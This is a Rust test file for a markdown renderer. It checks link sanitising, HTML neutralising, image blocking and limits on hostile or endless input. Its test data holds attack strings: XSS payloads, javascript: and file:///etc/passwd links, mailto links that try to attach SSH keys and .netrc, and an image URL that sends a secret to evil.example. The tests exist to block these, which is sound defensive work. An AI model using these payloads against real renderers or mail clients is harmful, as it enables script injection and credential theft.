use proptest::prelude::*;

use super::*;

fn json(source: &str) -> String {
    serde_json::to_string(&markdown(source)).unwrap()
}

fn words(blocks: &[RichBlock]) -> String {
    serde_json::to_string(blocks).unwrap()
}

#[test]
fn r1_dollars_are_literal() {
    for source in ["$0.02/GB or $203", "`${A}` and `${B}`", "**$148+ → $19**"] {
        let text = json(source);
        for word in source.split([' ', '`', '*']).filter(|word| word.contains('$')) {
            assert!(text.contains(word), "{word} is gone from {text}");
        }
    }
}

#[test]
fn r2_w15_w22_only_web_and_mail_links_are_alive() {
    for (target, alive) in [
        ("https://docs.rs/x", true),
        ("http://127.0.0.1:8080/", true),
        ("mailto:a@b.c", true),
        ("mailto:a@b.c?subject=Hi&body=There", true),
        ("mailto:a@b.c?attach=/h/u/.ssh/id_rsa", false),
        ("mailto:a@b.c?subject=x&ATTACHMENT=~/.netrc", false),
        ("ms-msdt:/id", false),
        ("x-apple.systempreferences:x", false),
        ("javascript:alert(1)", false),
        ("JaVaScRiPt:alert(1)", false),
        ("&#106;avascript:alert(1)", false),
        ("data:text/html,x", false),
        ("vbscript:x", false),
        ("file:///etc/passwd", false),
        ("smb://host/x", false),
        ("//evil.example/x", false),
        ("relative.md", false),
    ] {
        let text = json(&format!("[x](<{target}>)"));
        assert_eq!(text.contains("\"t\":\"link\""), alive, "{target}: {text}");
        assert!(alive || text.contains("dead_link"), "{target}: {text}");
    }
    let homograph = json("[x](https://аpple.com/)");
    assert!(
        homograph.contains("https://xn--pple-43d.com/"),
        "u07: {homograph}"
    );
}

#[test]
fn r3_w01_html_stays_text_and_pictures_are_never_loaded() {
    for source in [
        "<img src=x onerror=alert(1)>",
        "a <b onclick=x>b</b>",
        "<iframe src=\"javascript:x\"></iframe>",
        "<script>alert(1)</script>",
    ] {
        let text = json(source);
        assert!(
            text.contains("verbatim") || text.contains("\"t\":\"text\""),
            "{text}"
        );
    }
    let picture = json("![alt](https://evil.example/?d=SECRET)");
    assert!(
        picture.contains("blocked_image") && picture.contains("evil.example"),
        "{picture}"
    );
}

#[test]
fn code_lists_tables_and_tasks_have_their_shape() {
    let blocks = markdown(
        "```rust\nlet a = 1; // one\n```\n\n- [x] done\n- [ ] open\n  - inner\n\n|a|b|\n|:-|-:|\n|1|2|\n",
    );
    let RichBlock::Code { language, lines } = &blocks[0] else {
        panic!("{blocks:?}")
    };
    assert_eq!((language.as_str(), lines.len()), ("rust", 1));
    let roles: Vec<_> = lines[0]
        .iter()
        .map(|span| (span.role, span.text.as_str()))
        .collect();
    use cairn_protocol::CodeRole::{Comment, Constant, Keyword};
    assert!(
        roles
            .iter()
            .any(|(role, text)| *role == Keyword && text.contains("let")),
        "{roles:?}"
    );
    assert!(
        roles.iter().any(|(role, text)| *role == Constant && *text == "1"),
        "{roles:?}"
    );
    assert!(
        roles
            .iter()
            .any(|(role, text)| *role == Comment && text.contains("one")),
        "{roles:?}"
    );
    let RichBlock::List { start: None, items } = &blocks[1] else {
        panic!("{blocks:?}")
    };
    assert_eq!(
        items.iter().map(|item| item.checked).collect::<Vec<_>>(),
        [Some(true), Some(false)]
    );
    assert!(words(&items[1].blocks).contains("inner"));
    let RichBlock::Table { align, head, rows } = &blocks[2] else {
        panic!("{blocks:?}")
    };
    assert_eq!((align.len(), head.len(), rows.len()), (2, 2, 1));
}

#[test]
fn w25_deep_and_hostile_text_comes_to_an_end() {
    for source in [
        ">".repeat(5_000) + "x",
        "- ".repeat(3_000) + "x",
        "[".repeat(5_000) + &"](x)".repeat(5_000),
        "*".repeat(20_000) + "x",
        "`".repeat(50_000),
        "|a".repeat(5_000) + "\n" + &"|-".repeat(5_000),
    ] {
        markdown(&source);
    }
}

#[test]
fn w25_a_text_without_end_is_drawn_to_a_limit_which_is_said() {
    let is_cut = |block: &RichBlock| matches!(block, RichBlock::Cut { .. });
    for (source, left_out) in [
        ("x ".repeat(LONGEST / 2), 0),
        (format!("{}1234567", "x ".repeat(LONGEST / 2)), 7),
        ("é ".repeat(LONGEST / 2), LONGEST / 2),
        ("word\n\n".repeat(LONGEST), 5 * LONGEST),
    ] {
        let blocks = markdown(&source);
        let shown = json(&source);
        match blocks.last() {
            Some(RichBlock::Cut { bytes }) => assert_eq!(*bytes, left_out as u64),
            _ => assert_eq!(left_out, 0),
        }
        assert!(shown.len() < 12 * LONGEST, "{}", shown.len());
    }
    for word in [
        "x".repeat(3 * WORD),
        format!("a {}", "[".repeat(3 * WORD)),
        // At the start of a line they would open a block of code.
        format!("a {}", "`".repeat(3 * WORD)),
    ] {
        let blocks = markdown(&format!("{word} after\n\nmore"));
        let RichBlock::Cut { bytes } = blocks[1] else {
            panic!("{:?}", blocks[1])
        };
        assert_eq!((bytes, blocks.len()), (2 * WORD as u64, 3));
        assert!(words(&blocks[..1]).contains(" after"), "what follows is drawn");
    }
    let table = format!("|a|b|\n|-|-|\n{}\nafter", "|1|2|\n".repeat(ROWS + 10));
    let blocks = markdown(&table);
    let RichBlock::Table { rows, .. } = &blocks[0] else {
        panic!("{:?}", blocks[0])
    };
    assert_eq!((rows.len(), is_cut(&blocks[1]), blocks.len()), (ROWS, true, 3));
    assert!(!markdown("|a|\n|-|\n|1|").iter().any(is_cut));
}

#[test]
fn w25_what_grows_without_end_is_sent_a_bounded_number_of_times() {
    for piece in ["x", "| 1 | 2 |\n", "é"] {
        let source = format!(
            "| a | b |\n|---|---|\n{}",
            piece.repeat(2 * LONGEST / piece.len())
        );
        let (mut growing, mut shown, mut drawn) = (Growing::new(), Vec::new(), 0);
        let letters: Vec<char> = source.chars().collect();
        for piece in letters.chunks(512) {
            let piece: String = piece.iter().collect();
            let (keep, blocks) = growing.push(&piece);
            drawn += usize::from(
                blocks.len() > 1 || !matches!(blocks.first(), None | Some(RichBlock::Cut { .. })),
            );
            shown.truncate(keep as usize);
            shown.extend(blocks);
        }
        assert_eq!(shown, markdown(&source), "{piece:?}");
        assert!(drawn < 200, "{piece:?} was drawn {drawn} times");
    }
}

#[test]
fn w25_a_text_of_many_parts_is_drawn_to_a_limit_which_is_said() {
    for (what, source) in [
        ("paragraphs", "a\n\n".repeat(LONGEST / 3)),
        ("rules", "> ---\n".repeat(LONGEST / 6)),
        ("entries", "- a\n".repeat(LONGEST / 4)),
        ("quoted entries", "> - a\n".repeat(LONGEST / 6)),
        (
            "wide rows",
            format!(
                "{}\n{}\n{}",
                "|a".repeat(300),
                "|-".repeat(300),
                "|1\n".repeat(50_000)
            ),
        ),
        (
            "a wide head",
            format!("{}\n{}\n", "|a".repeat(40_000), "|-".repeat(40_000)),
        ),
        ("strong words", "**a** b ".repeat(LONGEST / 8)),
        ("code words", "`a` ".repeat(LONGEST / 4)),
        ("links", "[a](https://b.c) ".repeat(LONGEST / 17)),
        ("brackets", "[".repeat(LONGEST / 3) + &"](".repeat(LONGEST / 3)),
        ("lines of code", format!("```\n{}", "x\n".repeat(LONGEST / 2))),
        ("a line of code", format!("```\n{}", "x".repeat(3 * WORD))),
        ("fences", "```rust\nlet x = 1;\n```\n".repeat(5_000)),
    ] {
        let blocks = markdown(&source);
        let parts = blocks_with_places(&source[..source.len().min(LONGEST)], Highlight::Always, PARTS)
            .iter()
            .map(|placed| placed.parts)
            .sum::<usize>();
        // What is begun is finished: a nested list, a row's cell, a line of code.
        assert!(parts <= PARTS + 2_000, "{what}: {parts}");
        let said = blocks.iter().any(|block| matches!(block, RichBlock::Cut { .. }));
        // Running text stays whole when its form goes.
        assert!(
            said || matches!(what, "strong words" | "code words" | "links") && blocks.len() == 1,
            "{what}: {} blocks",
            blocks.len()
        );
        let twice = blocks
            .windows(2)
            .any(|two| two.iter().all(|block| matches!(block, RichBlock::Cut { .. })));
        assert!(!twice, "{what}: said once");
    }
}

#[test]
fn w25_what_grows_is_closed_where_it_was_left_out_of_too() {
    let table = format!(
        "before\n\n|a|b|\n|-|-|\n{}\nafter\n\nend\n",
        "|1|2|\n".repeat(ROWS + 10)
    );
    let word = format!("before\n\n{} b\n\nafter\n\nend\n", "x".repeat(WORD + 10));
    let long = format!(
        "{}{} tail",
        "a b\n\n".repeat(LONGEST / 5 - 2_000),
        "x".repeat(5 * WORD)
    );
    for source in [table, word, long, "a\n\n".repeat(LONGEST / 2)] {
        let pieces: Vec<&str> = source
            .as_bytes()
            .chunks(700)
            .map(|piece| std::str::from_utf8(piece).unwrap())
            .collect();
        assert_eq!(grown(&pieces), markdown(&source));
    }
}

/// What a window has after these pieces.
fn grown(pieces: &[&str]) -> Vec<RichBlock> {
    let mut growing = Growing::new();
    let mut shown: Vec<RichBlock> = Vec::new();
    for piece in pieces {
        let (keep, blocks) = growing.push(piece);
        shown.truncate(keep as usize);
        shown.extend(blocks);
    }
    shown
}

proptest! {
    /// However a text arrives, the window ends up with the whole text's tree.
    #[test]
    fn any_split_grows_into_the_same_tree(
        parts in prop::collection::vec(prop::sample::select(vec![
            "# Head\n", "words *soft* and `code`\n", "\n", "- one\n", "- two\n", "  more\n", "```rust\nlet x = 1;\n```\n",
            "> said\n", "| a | b |\n|---|---|\n| 1 | 2 |\n", "<b>x</b>\n", "1. first\n", "---\n", "é漢 ",
        ]), 0..14),
        cuts in prop::collection::vec(1usize..9, 1..6),
    ) {
        let source = parts.concat();
        let mut pieces = Vec::new();
        let mut rest = source.as_str();
        let mut turn = 0;
        while !rest.is_empty() {
            let wanted = cuts[turn % cuts.len()];
            let end = rest.char_indices().nth(wanted).map_or(rest.len(), |(at, _)| at);
            pieces.push(&rest[..end]);
            rest = &rest[end..];
            turn += 1;
        }
        prop_assert_eq!(grown(&pieces), markdown(&source));
    }

    #[test]
    fn no_input_panics(source in "\\PC{0,400}") {
        markdown(&source);
    }
}
